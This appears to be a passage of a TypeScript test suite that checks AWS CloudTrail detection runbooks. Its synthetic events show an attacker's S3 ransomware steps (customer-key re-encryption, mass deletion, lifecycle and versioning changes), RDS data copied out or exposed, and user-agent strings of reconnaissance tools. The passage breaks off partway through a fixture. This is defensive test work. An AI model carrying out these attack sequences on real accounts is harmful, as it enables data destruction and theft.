    const ML = "arn:aws:sts::123456789012:assumed-role/ml-inference/batch";
    const denied = { errorCode: "AccessDeniedException", errorMessage: "not allowed" };
    const service = { userIdentity: { type: "AWSService", invokedBy: "bedrock.amazonaws.com" } };
    const events = [
      // 0 to 2: the application invokes its model three times
      ...[0, 1, 2].map((i) => by(APP, i, B, "InvokeModel", { modelId: "claude" })),
      // 3: bob lists the models; 4: his invocation is refused; 5: he enables model access
      by(BOB, 3, B, "ListFoundationModels", {}),
      by(BOB, 4, B, "InvokeModel", { modelId: "claude" }, denied),
      by(BOB, 5, B, "PutUseCaseForModelAccess", {}),
      // 6 to 9: the ML role, a workload, tries four models in the hour (one refused)
      by(ML, 6, B, "Converse", { modelId: "m1" }),
      by(ML, 7, B, "ConverseStream", { modelId: "m2" }),
      by(ML, 8, B, "InvokeModelWithResponseStream", { modelId: "m3" }),
      by(ML, 9, B, "InvokeModel", { modelId: "m4" }, denied),
      // 10: Bedrock on the account's behalf: never listed
      by(APP, 10, B, "InvokeModel", { modelId: "claude" }, service),
    ];
    const reports = await onJune1("runbooks/bedrock-model-use.md", events);
    expect(step(reports, "model_use").rows.map((r) => r.slice(0, 5))).toEqual([
      [BOB, "InvokeModel", "claude", 1, 1],
      [BOB, "ListFoundationModels", null, 1, 0],
      [BOB, "PutUseCaseForModelAccess", null, 1, 0],
    ]);
    expect(step(reports, "model_use_insights").rows.length).toBe(3);
    // ML: four models in an hour (more than 3); the application's three calls of one: fine
    expect(step(reports, "invocation_volume").rows).toEqual([[ML, "2024-06-01T10", 4, 1, 4]]);
    // the same in Logs Insights, per caller and bin(1h)
    const hour = "2024-06-01 10:00:00.000";
    expect(step(reports, "invocation_volume_insights").rows).toEqual([[ML, hour, 4, 4]]);
    expect(step(reports, "invocation_volume_insights").status).toBe("failed");
    // bob made the workload, at most two invocations an hour: the application and bob too
    const tuned = await onJune1("runbooks/bedrock-model-use.md", events, [
      ...["--param", "model_user_pattern=:user/bob$"],
      ...["--param", "max_invocations_per_hour=2"],
    ]);
    expect(new Set(step(tuned, "model_use_insights").rows.map((r) => r[0]))).toEqual(
      new Set([APP, ML]),
    );
    expect(step(tuned, "invocation_volume").rows.map((r) => r.slice(0, 3))).toEqual([
      [ML, "2024-06-01T10", 4],
      [APP, "2024-06-01T10", 3],
    ]);
    expect(step(tuned, "invocation_volume_insights").rows).toEqual([
      [ML, hour, 4, 4],
      [APP, hour, 3, 1],
    ]);
    const steps = MODEL_STEPS.slice(0, 4);
    expectTruth(reports, events, steps);
    expectTruth(tuned, events, steps);
  });

  it("lists federation tokens minted outside the automation, never a refused one", async () => {
    const S = "sts.amazonaws.com";
    const minted = (key: string) => ({
      responseElements: { credentials: { accessKeyId: key, expiration: "Jun 2, 2024" } },
    });
    const events = [
      by(BOB, 0, S, "GetFederationToken", { name: "sync" }, minted("ASIAEXAMPLEBOB000001")),
      by(BOB, 1, S, "GetFederationToken", { name: "sync2" }, { errorCode: "AccessDenied" }),
      by(CI, 2, S, "GetFederationToken", { name: "deploy" }, minted("ASIAEXAMPLECI0000001")),
      by(BOB, 3, S, "GetSessionToken", {}, minted("ASIAEXAMPLEBOB000002")),
    ];
    const reports = await onJune1("runbooks/access-key-lifecycle.md", events);
    expect(step(reports, "federation_tokens").rows.map((r) => r.slice(0, 6))).toEqual([
      ["2024-06-01T10:00:00Z", BOB, null, "sync", "ASIAEXAMPLEBOB000001", "Jun 2, 2024"],
    ]);
    expect(step(reports, "federation_tokens_insights").rows.map((r) => r.slice(1))).toEqual([
      [BOB, "sync", "ASIAEXAMPLEBOB000001"],
    ]);
    const tuned = await onJune1("runbooks/access-key-lifecycle.md", events, [
      "--param",
      "automation_pattern=:user/bob$",
    ]);
    expect(step(tuned, "federation_tokens_insights").rows.map((r) => r[2])).toEqual(["deploy"]);
    const steps = MODEL_STEPS.slice(4);
    expectTruth(reports, events, steps);
    expectTruth(tuned, events, steps);
  });
});

describe("s3-ransomware on the shapes of S3 ransomware, which the data sets lack", () => {
  /*
   * The shapes: Stratus Red Team's published sample records of aws.impact.s3-ransomware-*
   * (docs/attack-techniques/AWS/: CopyObject with the SSE-C algorithm in requestParameters,
   * DeleteObject with its key, DeleteObjects with the bucket and "delete": "" but no keys),
   * and Panther's PutBucketLifecycle and PutBucketVersioning test records (a single rule recorded
   * as an object, VersioningConfiguration's Status and MfaDelete). S3 object calls are data
   * events; bucket configuration calls are management events.
   */
  const MAL = MALLORY.arn;
  const APP = "arn:aws:sts::123456789012:assumed-role/app-backend/i-0a1b2c3d4e5f60718";
  const CI = "arn:aws:sts::123456789012:assumed-role/ci-deployer/build-42";
  const OTHER = { type: "AWSAccount", principalId: "AIDAOTHER:x", accountId: "999988887777" };
  const identity = (arn: string) =>
    arn === MAL
      ? MALLORY
      : { type: "AssumedRole", principalId: "AROAEXAMPLE:s", arn, accountId: "123456789012" };
  const data = { managementEvent: false, eventCategory: "Data" };
  /** An S3 call by `who` (an ARN, or an identity without one) at minute `i`. */
  const s3 = (
    who: string | Record<string, unknown>,
    i: number,
    eventName: string,
    requestParameters: Record<string, unknown>,
    extra: Record<string, unknown> = {},
  ) =>
    crafted(
      i,
      typeof who === "string" ? identity(who) : who,
      "s3.amazonaws.com",
      eventName,
      { bucketName: "finance", Host: "finance.s3.us-east-1.amazonaws.com", ...requestParameters },
      { readOnly: false, ...extra },
    );
  const SSE_C = { "x-amz-server-side-encryption-customer-algorithm": "AES256" };
  const denied = { errorCode: "AccessDenied", errorMessage: "Access Denied" };
  const copy = (key: string) => ({
    key,
    "x-amz-copy-source": `finance/${key}`,
    "x-id": "CopyObject",
  });
  const lifecycle = (Rule: unknown) => ({
    lifecycle: "",
    LifecycleConfiguration: { Rule, xmlns: "http://s3.amazonaws.com/doc/2006-03-01/" },
  });
  const versioning = (config: Record<string, string>) => ({
    versioning: "",
    VersioningConfiguration: { ...config, xmlns: "http://s3.amazonaws.com/doc/2006-03-01/" },
  });
  const at = (m: number) => `2024-06-01T10:${String(m).padStart(2, "0")}:00Z`;
  const events = [
    // 0 to 2: the workload deletes three objects, one at a time; 3: it writes with SSE-KMS
    ...[0, 1, 2].map((i) => s3(APP, i, "DeleteObject", { key: `tmp/${i}` }, data)),
    s3(APP, 3, "PutObject", { key: "r", "x-amz-server-side-encryption": "aws:kms" }, data),
    // 4 to 6: mallory rewrites three objects with her own key (Codefinger); 7: refused
    ...["a", "b", "c"].map((k, i) => s3(MAL, 4 + i, "CopyObject", { ...copy(k), ...SSE_C }, data)),
    s3(MAL, 7, "PutObject", { key: "d", ...SSE_C }, { ...data, ...denied }),
    // 8: a copy that only reads an SSE-C source: no key of hers written
    s3(
      MAL,
      8,
      "CopyObject",
      { ...copy("e"), "x-amz-copy-source-server-side-encryption-customer-algorithm": "AES256" },
      data,
    ),
    // 9: another account's caller, without an ARN, writes with a key of its own
    s3(OTHER, 9, "PutObject", { key: "f", ...SSE_C }, data),
    // 10 to 14: mallory deletes four objects, one refused, and sends one batch deletion
    ...[10, 11, 12, 13].map((i) => s3(MAL, i, "DeleteObject", { key: `k${i}` }, data)),
    s3(MAL, 14, "DeleteObject", { key: "k14" }, { ...data, ...denied }),
    s3(MAL, 15, "DeleteObjects", { delete: "", "x-id": "DeleteObjects" }, data),
    // 16: a service deleting for the account: never counted
    s3(
      { type: "AWSService", invokedBy: "backup.amazonaws.com" },
      16,
      "DeleteObjects",
      { delete: "" },
      data,
    ),
    // 17: the pipeline's lifecycle rule (objects expire after 30 days): not listed
    s3(
      CI,
      17,
      "PutBucketLifecycle",
      lifecycle({ ID: "logs", Status: "Enabled", Expiration: { Days: 30 } }),
    ),
    // 18: mallory's rule deleting every object in 7 days (one rule, recorded as an object)
    s3(
      MAL,
      18,
      "PutBucketLifecycle",
      lifecycle({ ID: "x", Status: "Enabled", Expiration: { Days: 7 } }),
    ),
    // 19: three rules: a transition after 1 day (expires nothing), earlier versions expire after 3
    // days, current ones on a date
    s3(
      MAL,
      19,
      "PutBucketLifecycle",
      lifecycle([
        { ID: "t", Status: "Enabled", Transition: { Days: 1, StorageClass: "GLACIER" } },
        { ID: "n", Status: "Enabled", NoncurrentVersionExpiration: { NoncurrentDays: 3 } },
        { ID: "d", Status: "Enabled", Expiration: { Date: "2024-06-02T00:00:00Z" } },
      ]),
    ),
    // 20: a rule that only ends incomplete uploads: expires no object
    s3(
      MAL,
      20,
      "PutBucketLifecycle",
      lifecycle({
        ID: "u",
        Status: "Enabled",
        AbortIncompleteMultipartUpload: { DaysAfterInitiation: 7 },
      }),
    ),
    // 21: versioning suspended; 22: MFA delete off; 23: versioning on (listed neither); 24: refused
    s3(MAL, 21, "PutBucketVersioning", versioning({ Status: "Suspended" })),
    s3(MAL, 22, "PutBucketVersioning", versioning({ Status: "Enabled", MfaDelete: "Disabled" })),
    s3(MAL, 23, "PutBucketVersioning", versioning({ Status: "Enabled", MfaDelete: "Enabled" })),
    s3(MAL, 24, "PutBucketVersioning", versioning({ Status: "Suspended" }), denied),
    // 25: a disabled rule, applied to nothing: not listed
    s3(
      MAL,
      25,
      "PutBucketLifecycle",
      lifecycle({ ID: "off", Status: "Disabled", Expiration: { Days: 1 } }),
    ),
    // 26: a disabled 1-day rule beside an enabled one expiring earlier versions after 5 days
    s3(
      MAL,
      26,
      "PutBucketLifecycle",
      lifecycle([
        { ID: "off", Status: "Disabled", Expiration: { Days: 1 } },
        { ID: "on", Status: "Enabled", NoncurrentVersionExpiration: { NoncurrentDays: 5 } },
      ]),
    ),
    // 27: a rule removing only expired delete markers: expires no object
    s3(
      MAL,
      27,
      "PutBucketLifecycle",
      lifecycle({ ID: "m", Status: "Enabled", Expiration: { ExpiredObjectDeleteMarker: true } }),
    ),
  ];
  const step = (reports: RunReport[], id: string) => reports[0]!.steps.find((s) => s.id === id)!;
  const hour = "2024-06-01 10:00:00.000";

  it("lists the encryption, the deletions and the protections removed, none of the ordinary", async () => {
    const reports = await onJune1("runbooks/s3-ransomware.md", events);
    for (const s of reports[0]!.steps) expect(s.status, s.id).toBe("failed");
    // calls DESC, then actor: another account's principal id sorts before an ARN
    expect(step(reports, "customer_key_writes").rows).toEqual([
      [MAL, "CopyObject", "finance", 3, 3, 0, at(4), at(6)],
      ["AIDAOTHER:x", "PutObject", "finance", 1, 1, 0, at(9), at(9)],
      [MAL, "PutObject", "finance", 1, 1, 1, at(7), at(7)],
    ]);
    expect(step(reports, "customer_key_writes_insights").rows.sort()).toEqual([
      [null, "PutObject", 1],
      [MAL, "CopyObject", 3],
      [MAL, "PutObject", 1],
    ]);
    // mallory's hour: five objects one at a time (one refused) and one batch request
    expect(step(reports, "bulk_deletions").rows).toEqual([[MAL, "2024-06-01T10", 5, 1, 1, 1]]);
    expect(step(reports, "bulk_deletions_insights").rows).toEqual([
      [MAL, "DeleteObjects", hour, 1],
    ]);
    expect(step(reports, "protection_removed").rows.map((r) => r.slice(0, 7))).toEqual([
      [at(18), MAL, "PutBucketLifecycle", "finance", null, null, 7],
      [at(19), MAL, "PutBucketLifecycle", "finance", null, null, 3],
      [at(21), MAL, "PutBucketVersioning", "finance", "Suspended", null, null],
      [at(22), MAL, "PutBucketVersioning", "finance", "Enabled", "Disabled", null],
      [at(26), MAL, "PutBucketLifecycle", "finance", null, null, 5],
    ]);
    expect(
      step(reports, "protection_removed_insights")
        .rows.map((r) => r[0])
        .sort(),
    ).toEqual([18, 19, 21, 22, 26].map((m) => `2024-06-01 10:${m}:00.000`));
    expectTruth(reports, events, S3_RANSOMWARE_STEPS);
  });

  it("moves its verdicts with the parameters", async () => {
    // mallory made the SSE-C writer and the automation; two deletions an hour, one batch
    const tuned = await onJune1("runbooks/s3-ransomware.md", events, [
      ...["--param", "customer_key_writer_pattern=:user/mallory$"],
      ...["--param", "automation_pattern=:user/mallory$"],
      ...["--param", "max_deletions_per_hour=2"],
      ...["--param", "max_batch_deletions_per_hour=1"],
    ]);
    // only the caller without an ARN is outside the pattern
    expect(step(tuned, "customer_key_writes").rows.map((r) => r[0])).toEqual(["AIDAOTHER:x"]);
    // the workload's three deletions pass two; mallory's batch request is within one
    expect(step(tuned, "bulk_deletions").rows).toEqual([
      [MAL, "2024-06-01T10", 5, 1, 1, 1],
      [APP, "2024-06-01T10", 3, 0, 0, 1],
    ]);
    expect(step(tuned, "bulk_deletions_insights").rows).toEqual([
      [MAL, "DeleteObject", hour, 5],
      [APP, "DeleteObject", hour, 3],
    ]);
    // the pipeline's rule is now the one set by hand
    expect(step(tuned, "protection_removed").rows.map((r) => [r[1], r[6]])).toEqual([[CI, 30]]);
    expect(step(tuned, "protection_removed_insights").rows.map((r) => r[1])).toEqual([CI]);
    expectTruth(tuned, events, S3_RANSOMWARE_STEPS);
    // the thresholds raised: no hour is bulk
    const quiet = await onJune1("runbooks/s3-ransomware.md", events, [
      ...["--param", "max_deletions_per_hour=5"],
      ...["--param", "max_batch_deletions_per_hour=1"],
    ]);
    expect(step(quiet, "bulk_deletions").status).toBe("passed");
    expect(step(quiet, "bulk_deletions_insights").status).toBe("passed");
    expectTruth(quiet, events, S3_RANSOMWARE_STEPS);
  });
});

describe("rds-data-protection on RDS shapes the data sets lack", () => {
  /*
   * The shapes: Panther's AWS.RDS.* test records give CloudTrail's spelling of RDS requests
   * (dBInstanceIdentifier, sourceDBSnapshotIdentifier, publiclyAccessible, skipFinalSnapshot;
   * snapshotType in the response). The calls they lack take the parameters of the Amazon RDS API
   * Reference (RestoreDBClusterFromSnapshot: SnapshotIdentifier, DBClusterIdentifier,
   * PubliclyAccessible; RestoreDBInstanceToPointInTime: SourceDBInstanceIdentifier,
   * TargetDBInstanceIdentifier; CreateDBClusterSnapshot; DownloadCompleteDBLogFile: LogFileName;
   * AuthorizeDBSecurityGroupIngress: CIDRIP; DeleteDBCluster: SkipFinalSnapshot), spelt the same
   * way. AWS Backup calls RDS through its service role, as the role's session with invokedBy
   * backup.amazonaws.com and that name as address and agent (the shape of AWS Backup's calls in
   * CloudTrail; Elastic's RDS snapshot-deletion rule leaves them out by that address and agent).
   */
  const MAL = MALLORY.arn;
  const CI = "arn:aws:sts::123456789012:assumed-role/ci-deployer/build-42";
  const OTHER = { type: "AWSAccount", principalId: "AIDAOTHER:x", accountId: "999988887777" };
  const ci = {
    type: "AssumedRole",
    principalId: "AROAEXAMPLE:s",
    arn: CI,
    accountId: "123456789012",
  };
  const BACKUP_ARN =
    "arn:aws:sts::123456789012:assumed-role/AWSBackupDefaultServiceRole/AWSBackup-AWSBackupDefaultServiceRole";
  const BACKUP = {
    type: "AssumedRole",
    principalId: "AROAEXAMPLEBACKUP:AWSBackup-AWSBackupDefaultServiceRole",
    arn: BACKUP_ARN,
    accountId: "123456789012",
    invokedBy: "backup.amazonaws.com",
  };
  const AUTO_BACKUP = "arn:aws:rds:us-east-1:123456789012:auto-backup:ab-orders";
  const byBackup = { sourceIPAddress: "backup.amazonaws.com", userAgent: "backup.amazonaws.com" };
  const denied = { errorCode: "AccessDenied", errorMessage: "Access Denied" };
  const call = (
    who: Record<string, unknown>,
    i: number,
    eventName: string,
    requestParameters: Record<string, unknown>,
    extra: Record<string, unknown> = {},
  ) =>
    crafted(i, who, "rds.amazonaws.com", eventName, requestParameters, {
      readOnly: false,
      ...extra,
    });
  const response = (r: Record<string, unknown>) => ({ responseElements: r });
  const events = [
    // 0: the pipeline's nightly snapshot and 1: its cross-region copy for disaster recovery
    call(
      ci,
      0,
      "CreateDBSnapshot",
      { dBInstanceIdentifier: "orders", dBSnapshotIdentifier: "orders-nightly" },
      response({ snapshotType: "manual" }),
    ),
    call(
      ci,
      1,
      "CopyDBSnapshot",
      {
        sourceDBSnapshotIdentifier: "arn:aws:rds:us-east-1:123456789012:snapshot:orders-nightly",
        targetDBSnapshotIdentifier: "orders-dr",
      },
      { awsRegion: "us-west-2" },
    ),
    // 2: AWS Backup's snapshot (through its service role)
    call(
      BACKUP,
      2,
      "CreateDBSnapshot",
      { dBInstanceIdentifier: "orders", dBSnapshotIdentifier: "awsbackup:job-1" },
      { ...byBackup, ...response({ snapshotType: "awsbackup" }) },
    ),
    // 3: mallory's cluster snapshot, 4: copied in the region under another account's key,
    // 5: copied in the region, named by its ARN, with no key (the SQL step leaves it, the Logs
    // Insights step lists it), 6: restored as a public cluster, 7: restored to a point in time,
    // private (not listed), 8: a whole log file downloaded twice
    call(
      MALLORY,
      3,
      "CreateDBClusterSnapshot",
      { dBClusterIdentifier: "billing", dBClusterSnapshotIdentifier: "billing-x" },
      response({ snapshotType: "manual" }),
    ),
    call(MALLORY, 4, "CopyDBClusterSnapshot", {
      sourceDBClusterSnapshotIdentifier: "billing-x",
      targetDBClusterSnapshotIdentifier: "billing-y",
      kmsKeyId: "arn:aws:kms:us-east-1:999988887777:key/abcd",
    }),
    call(MALLORY, 5, "CopyDBClusterSnapshot", {
      sourceDBClusterSnapshotIdentifier:
        "arn:aws:rds:us-east-1:123456789012:cluster-snapshot:billing-x",
      targetDBClusterSnapshotIdentifier: "billing-z",
    }),
    call(MALLORY, 6, "RestoreDBClusterFromSnapshot", {
      snapshotIdentifier: "billing-y",
      dBClusterIdentifier: "billing-copy",
      engine: "aurora-postgresql",
      publiclyAccessible: true,
    }),
    call(MALLORY, 7, "RestoreDBInstanceToPointInTime", {
      sourceDBInstanceIdentifier: "orders",
      targetDBInstanceIdentifier: "orders-pitr",
      publiclyAccessible: false,
    }),
    ...[8, 9].map((i) =>
      call(MALLORY, i, "DownloadCompleteDBLogFile", {
        dBInstanceIdentifier: "orders",
        logFileName: "audit/audit.log",
      }),
    ),
    // 10: another account's caller exports a snapshot; 11: refused, changed nothing
    call(OTHER, 10, "StartExportTask", {
      sourceArn: "arn:aws:rds:us-east-1:123456789012:snapshot:orders-nightly",
      s3BucketName: "drop-zone",
      iamRoleArn: "arn:aws:iam::123456789012:role/export",
      kmsKeyId: "arn:aws:kms:us-east-1:123456789012:key/k",
    }),
    call(
      MALLORY,
      11,
      "StartExportTask",
      {
        sourceArn: "arn:aws:rds:us-east-1:123456789012:snapshot:orders-nightly",
        s3BucketName: "drop-zone",
      },
      denied,
    ),
    // 12: a public cluster created by the pipeline (step 2 lists everyone), 13: an instance RDS
    // made public by its default, 14: a DB security group opened to every IPv6 address, 15: to a
    // private network (not listed)
    call(ci, 12, "CreateDBCluster", {
      dBClusterIdentifier: "reports",
      engine: "mysql",
      publiclyAccessible: true,
    }),
    call(
      MALLORY,
      13,
      "CreateDBInstance",
      { dBInstanceIdentifier: "scratch", engine: "postgres" },
      response({ dBInstanceIdentifier: "scratch", publiclyAccessible: true }),
    ),
    call(MALLORY, 14, "AuthorizeDBSecurityGroupIngress", {
      dBSecurityGroupName: "legacy",
      cIDRIP: "::/0",
    }),
    call(MALLORY, 15, "AuthorizeDBSecurityGroupIngress", {
      dBSecurityGroupName: "legacy",
      cIDRIP: "10.0.0.0/8",
    }),
    // 16: retention 0 alone, 17: the pipeline turning deletion protection off (automation),
    // 18: a cluster deleted without a final snapshot, 19: an instance deleted with one (kept),
    // 20: deletion protection turned on (not listed), 21: another account's snapshot deletion
    call(MALLORY, 16, "ModifyDBInstance", {
      dBInstanceIdentifier: "orders",
      backupRetentionPeriod: 0,
      applyImmediately: true,
    }),
    call(ci, 17, "ModifyDBInstance", { dBInstanceIdentifier: "orders", deletionProtection: false }),
    call(MALLORY, 18, "DeleteDBCluster", {
      dBClusterIdentifier: "billing",
      skipFinalSnapshot: true,
    }),
    call(MALLORY, 19, "DeleteDBInstance", {
      dBInstanceIdentifier: "scratch",
      skipFinalSnapshot: false,
      finalDBSnapshotIdentifier: "scratch-final",
    }),
    call(MALLORY, 20, "ModifyDBCluster", {
      dBClusterIdentifier: "billing",
      deletionProtection: true,
    }),
    call(OTHER, 21, "DeleteDBClusterSnapshot", { dBClusterSnapshotIdentifier: "billing-x" }),
    // AWS Backup's plan: 22: its copy job into us-west-2 under that region's key, 23: a recovery
    // point it expires (neither listed); 24: a restore someone asked it for, public (listed)
    call(
      BACKUP,
      22,
      "CopyDBSnapshot",
      {
        sourceDBSnapshotIdentifier: "arn:aws:rds:us-east-1:123456789012:snapshot:awsbackup:job-1",
        targetDBSnapshotIdentifier: "awsbackup:copyjob-1",
        kmsKeyId: "arn:aws:kms:us-west-2:123456789012:key/backup",
      },
      { ...byBackup, awsRegion: "us-west-2" },
    ),
    call(BACKUP, 23, "DeleteDBSnapshot", { dBSnapshotIdentifier: "awsbackup:job-0" }, byBackup),
    call(
      BACKUP,
      24,
      "RestoreDBInstanceFromDBSnapshot",
      {
        dBSnapshotIdentifier: "awsbackup:job-1",
        dBInstanceIdentifier: "orders-restored",
        publiclyAccessible: true,
      },
      byBackup,
    ),
    // read replicas: 25: in eu-west-1 of the us-east-1 database, 26: public in the region,
    // 27: private in the region (not listed), 28: an Aurora cluster in us-west-2 replicating the
    // us-east-1 cluster
    call(
      MALLORY,
      25,
      "CreateDBInstanceReadReplica",
      {
        dBInstanceIdentifier: "orders-eu",
        sourceDBInstanceIdentifier: "arn:aws:rds:us-east-1:123456789012:db:orders",
        kmsKeyId: "arn:aws:kms:eu-west-1:123456789012:key/eu",
      },
      { awsRegion: "eu-west-1" },
    ),
    call(
      MALLORY,
      26,
      "CreateDBInstanceReadReplica",
      { dBInstanceIdentifier: "orders-ro", sourceDBInstanceIdentifier: "orders" },
      response({ dBInstanceIdentifier: "orders-ro", publiclyAccessible: true }),
    ),
    call(
      MALLORY,
      27,
      "CreateDBInstanceReadReplica",
      { dBInstanceIdentifier: "orders-ro2", sourceDBInstanceIdentifier: "orders" },
      response({ dBInstanceIdentifier: "orders-ro2", publiclyAccessible: false }),
    ),
    call(
      MALLORY,
      28,
      "CreateDBCluster",
      {
        dBClusterIdentifier: "billing-west",
        engine: "aurora-mysql",
        replicationSourceIdentifier: "arn:aws:rds:us-east-1:123456789012:cluster:billing",
      },
      { awsRegion: "us-west-2" },
    ),
    // a new master password RDS generates into Secrets Manager, under another account's key
    // (29), and the managed one rotated (30): whoever reads the secret has the database
    call(MALLORY, 29, "ModifyDBInstance", {
      dBInstanceIdentifier: "orders",
      manageMasterUserPassword: true,
      masterUserSecretKmsKeyId: "arn:aws:kms:us-east-1:999988887777:key/abcd",
      applyImmediately: true,
    }),
    call(MALLORY, 30, "ModifyDBCluster", {
      dBClusterIdentifier: "billing",
      rotateMasterUserPassword: true,
      applyImmediately: true,
    }),
    // 31: the pipeline restoring a point in time as a public database (step 2 lists anyone's)
    call(ci, 31, "RestoreDBInstanceToPointInTime", {
      sourceDBInstanceIdentifier: "orders",
      targetDBInstanceIdentifier: "orders-debug",
      publiclyAccessible: true,
    }),
    // 32: a deleted database brought back from its retained automated backups, public
    call(MALLORY, 32, "RestoreDBInstanceToPointInTime", {
      sourceDBInstanceAutomatedBackupsArn: AUTO_BACKUP,
      targetDBInstanceIdentifier: "orders-back",
      useLatestRestorableTime: true,
      publiclyAccessible: true,
    }),
  ];
  const step = (reports: RunReport[], id: string) => reports[0]!.steps.find((s) => s.id === id)!;
  const at = (m: number) => `2024-06-01T10:${String(m).padStart(2, "0")}:00Z`;
  const runbook = "runbooks/rds-data-protection.md";

  it("lists the copies, the openings and the destruction, none of the ordinary", async () => {
    const reports = await onJune1(runbook, events);
    for (const s of reports[0]!.steps) expect(s.status, s.id).toBe("failed");
    expect(step(reports, "data_copied_out").rows).toEqual([
      [MAL, "CreateDBClusterSnapshot", "us-east-1", "billing", "billing-x", null, 1, at(3), at(3)],
      [
        MAL,
        "CopyDBClusterSnapshot",
        "us-east-1",
        "billing-x",
        "billing-y",
        "arn:aws:kms:us-east-1:999988887777:key/abcd",
        1,
        at(4),
        at(4),
      ],
      [
        MAL,
        "RestoreDBClusterFromSnapshot",
        "us-east-1",
        "billing-y",
        "billing-copy",
        null,
        1,
        at(6),
        at(6),
      ],
      [
        MAL,
        "DownloadCompleteDBLogFile",
        "us-east-1",
        "orders",
        "audit/audit.log",
        null,
        2,
        at(8),
        at(9),
      ],
      [
        "AIDAOTHER:x",
        "StartExportTask",
        "us-east-1",
        "arn:aws:rds:us-east-1:123456789012:snapshot:orders-nightly",
        "drop-zone",
        "arn:aws:kms:us-east-1:123456789012:key/k",
        1,
        at(10),
        at(10),
      ],
      [
        BACKUP_ARN,
        "RestoreDBInstanceFromDBSnapshot",
        "us-east-1",
        "awsbackup:job-1",
        "orders-restored",
        null,
        1,
        at(24),
        at(24),
      ],
      [
        MAL,
        "CreateDBInstanceReadReplica",
        "eu-west-1",
        "arn:aws:rds:us-east-1:123456789012:db:orders",
        "orders-eu",
        "arn:aws:kms:eu-west-1:123456789012:key/eu",
        1,
        at(25),
        at(25),
      ],
      [
        MAL,
        "CreateDBInstanceReadReplica",
        "us-east-1",
        "orders",
        "orders-ro",
        null,
        1,
        at(26),
        at(26),
      ],
      [
        MAL,
        "CreateDBCluster",
        "us-west-2",
        "arn:aws:rds:us-east-1:123456789012:cluster:billing",
        "billing-west",
        null,
        1,
        at(28),
        at(28),
      ],
      [
        MAL,
        "RestoreDBInstanceToPointInTime",
        "us-east-1",
        AUTO_BACKUP,
        "orders-back",
        null,
        1,
        at(32),
        at(32),
      ],
    ]);
    expect(step(reports, "data_copied_out_insights").rows.sort()).toEqual([
      [null, "StartExportTask", 1],
      [MAL, "CopyDBClusterSnapshot", 2],
      [MAL, "CreateDBCluster", 1],
      [MAL, "CreateDBClusterSnapshot", 1],
      [MAL, "CreateDBInstanceReadReplica", 2],
      [MAL, "DownloadCompleteDBLogFile", 2],
      [MAL, "RestoreDBClusterFromSnapshot", 1],
      [MAL, "RestoreDBInstanceToPointInTime", 1],
      [BACKUP_ARN, "RestoreDBInstanceFromDBSnapshot", 1],
    ]);
    expect(step(reports, "opened_to_internet").rows.map((r) => r.slice(0, 5))).toEqual([
      [at(6), MAL, "RestoreDBClusterFromSnapshot", "billing-copy", null],
      [at(12), CI, "CreateDBCluster", "reports", null],
      [at(13), MAL, "CreateDBInstance", "scratch", null],
      [at(14), MAL, "AuthorizeDBSecurityGroupIngress", "legacy", "::/0"],
      [at(24), BACKUP_ARN, "RestoreDBInstanceFromDBSnapshot", "orders-restored", null],
      [at(26), MAL, "CreateDBInstanceReadReplica", "orders-ro", null],
      [at(31), CI, "RestoreDBInstanceToPointInTime", "orders-debug", null],
      [at(32), MAL, "RestoreDBInstanceToPointInTime", "orders-back", null],
    ]);
    expect(step(reports, "opened_to_internet_insights").rowCount).toBe(8);
    expect(step(reports, "protection_removed").rows.map((r) => r.slice(0, 5))).toEqual([
      [at(16), MAL, "ModifyDBInstance", "orders", "backup retention 0"],
      [at(18), MAL, "DeleteDBCluster", "billing", "deleted without a final snapshot"],
      [at(21), "AIDAOTHER:x", "DeleteDBClusterSnapshot", "billing-x", "snapshot deleted"],
      [at(29), MAL, "ModifyDBInstance", "orders", "master password reset"],
      [at(30), MAL, "ModifyDBCluster", "billing", "master password reset"],
    ]);
    expect(step(reports, "protection_removed_insights").rows.map((r) => r[2])).toEqual([
      "ModifyDBCluster",
      "ModifyDBInstance",
      "DeleteDBClusterSnapshot",
      "DeleteDBCluster",
      "ModifyDBInstance",
    ]);
    expectTruth(reports, events, RDS_STEPS);
  });

  it("moves its verdicts with the automation pattern", async () => {
    // mallory made the automation, the pipeline not
    const tuned = await onJune1(runbook, events, ["--param", "automation_pattern=:user/mallory$"]);
    expect(step(tuned, "data_copied_out").rows.map((r) => [r[0], r[1]])).toEqual([
      [CI, "CreateDBSnapshot"],
      [CI, "CopyDBSnapshot"],
      ["AIDAOTHER:x", "StartExportTask"],
      [BACKUP_ARN, "RestoreDBInstanceFromDBSnapshot"],
      [CI, "RestoreDBInstanceToPointInTime"],
    ]);
    expect(step(tuned, "protection_removed").rows.map((r) => [r[1], r[4]])).toEqual([
      [CI, "deletion protection off"],
      ["AIDAOTHER:x", "snapshot deleted"],
    ]);
    expect(step(tuned, "protection_removed_insights").rows.map((r) => r[1])).toEqual([null, CI]);
    // step 2 takes no pattern: the same eight rows
    expect(step(tuned, "opened_to_internet").rowCount).toBe(8);
    expectTruth(tuned, events, RDS_STEPS);
  });
});

describe("reconnaissance on keys checked, an account mapped, SES and regions", () => {
  /*
   * The shapes: Panther's test records (TruffleHog's GetCallerIdentity, the SES probes,
   * EnableRegion with requestParameters.RegionName) and CloudTrail's documented record fields.
   * The user agents are those the tools' sources write: TruffleHog's "TruffleHog"
   * (trufflesecurity/trufflehog pkg/common/http.go), ScoutSuite's "Scout Suite/<version>
   * (https://github.com/nccgroup/ScoutSuite)" added to boto3's (ScoutSuite/providers/aws/
   * authentication_strategy.py), Pacu's "Pacu-Session-<uuid>" suffix (RhinoSecurityLabs/pacu
   * pacu/main.py, set_ua_suffix), the AWS CLI's on Kali Linux (botocore puts the platform
   * release in the agent, which GuardDuty's PenTest:IAMUser/KaliLinux reads) and aws_consoler's
   * federated session "aws_consoler" (NetSPI/aws_consoler aws_consoler/logic.py). The SES v2
   * request keys (emailIdentity) are those of the SES API reference's CreateEmailIdentity.
   */
  const MAL = MALLORY.arn;
  const KEY = MALLORY.accessKeyId;
  const BOTO =
    "Boto3/1.34.69 md/Botocore#1.34.69 ua/2.0 os/linux#6.8.0-45-generic md/arch#x86_64 lang/python#3.12.3 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.34.69";
  const SCOUT = `${BOTO} Scout Suite/5.14.0 (https://github.com/nccgroup/ScoutSuite)`;
  const KALI =
    "aws-cli/2.13.0 Python/3.11.4 Linux/6.1.0-kali9-amd64 exe/x86_64.kali.2023 prompt/off";
  const PACU = `${BOTO} Pacu-Session-5b6c7d8e-0000-4000-8000-000000000001`;
  const role = (name: string, session: string) => ({
    type: "AssumedRole",
    principalId: `AROAEXAMPLE${name.length}:${session}`,
